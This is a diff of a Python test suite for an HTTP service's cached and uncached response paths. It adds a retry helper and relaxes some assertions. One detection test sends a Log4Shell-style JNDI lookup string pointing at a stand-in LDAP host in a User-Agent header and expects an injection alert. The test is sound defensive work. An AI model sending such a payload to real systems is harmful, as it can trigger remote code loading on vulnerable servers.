@@ -43,6 +43,14 @@ class Served:
             return CHANGES.sub(b"", connection._buffer), any(self.taken)
         raise AssertionError
 
+    def short(self, path: str, *fields: str) -> bytes:
+        """As `raw`, from the short path. Keys and limits that are due to be asked for take the long one."""
+        for _ in range(5):
+            written, was_short = self.raw(path, *fields)
+            if was_short:
+                return written
+        raise AssertionError("none of five requests was answered at once")
+
     def answer(self, path: str, *fields: str, key: str | None = None) -> Answer:
         for connection in self._connect():
             connection.request(f"GET {path} HTTP/1.1", key or self.key, *fields)
@@ -101,17 +109,16 @@ def _field(headers: dict[str, str]) -> str:
 def test_the_answer_is_that_of_the_long_path_to_the_byte(served: Served, path: str) -> None:
     row = served.rows[path]
     missed, first = served.raw(row)
-    hit, second = served.raw(row)
-    assert (first, second) == (False, True)
+    hit = served.short(row)
+    assert not first
     assert hit == missed
     assert hit.startswith(b"HTTP/1.1 200 OK\r\n")
 
     etag = served.answer(row).headers["etag"]
     for wanted in (etag, f'W/{etag}, "other"', '"other"', "*"):
-        short, was_short = served.raw(row, f"If-None-Match: {wanted}")
-        long, was_long = served.raw(row, f"If-None-Match: {wanted}", "Content-Length: 0")
-        assert (was_short, was_long) == (True, False)
-        assert short == long
+        long, was_short = served.raw(row, f"If-None-Match: {wanted}", "Content-Length: 0")
+        assert not was_short
+        assert served.short(row, f"If-None-Match: {wanted}") == long
 
 
 def test_every_header_is_there_and_the_limit_is_counted_on_both_paths_alike(served: Served) -> None:
@@ -165,8 +172,7 @@ def test_who_may_not_see_the_row_does_not_get_it_from_memory(served: Served, mak
     writes_only = _field(make_key(scopes=[Scope.TRANSACTIONS_WRITE]))
     others = _field(make_key(client_id="other"))
     wrong_secret = served.key[:-1] + ("a" if served.key[-1] != "a" else "b")
-    served.raw(row)
-    assert served.raw(row)[1]
+    served.short(row)
     for key, status in ((writes_only, 403), (others, 404), (wrong_secret, 401), ("Authorization: Basic x", 401)):
         for _ in range(2):
             written, short = served.raw(row, key=key)
@@ -190,7 +196,7 @@ def test_the_limit_is_exact_over_both_paths(served: Served) -> None:
 def test_an_attack_that_is_written_into_a_header_is_seen(served: Served, log: Log) -> None:
     row = served.rows[PATHS[0]]
     served.raw(row)
-    assert served.raw(row, "User-Agent: ${jndi:ldap://x}")[1]
+    served.short(row, "User-Agent: ${jndi:ldap://x}")
     (alert,) = [line for line in log() if line["message"] == "alert"]
     assert (alert["rule"], alert["subject"]) == (Rule.INJECTION, "127.0.0.1")
 
